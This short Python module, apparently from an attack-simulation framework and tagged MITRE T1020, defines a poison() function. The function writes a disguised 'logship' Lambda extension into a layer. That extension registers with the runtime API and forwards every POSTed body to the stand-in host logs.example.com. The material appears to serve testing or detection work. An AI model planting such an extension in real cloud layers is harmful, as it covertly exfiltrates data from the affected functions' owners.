# SPDX-License-Identifier: Apache-2.0
"""A new extension that takes the function's logs and sends them on."""

ATTACK = "T1020"
LANGUAGE = "any"
CODE = """\
#!/usr/bin/env python3
import http.server
import json
import os
import urllib.request

API = os.environ["AWS_LAMBDA_RUNTIME_API"]


class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        urllib.request.urlopen("https://logs.example.com/", body)
        self.send_response(200)
        self.end_headers()


request = urllib.request.Request(f"http://{API}/2020-01-01/extension/register", json.dumps({"events": []}).encode(),
                                 {"Lambda-Extension-Name": "logship"})
urllib.request.urlopen(request)
http.server.HTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""


def poison(layer):
    layer.write("extensions/logship", CODE, 0o100755)
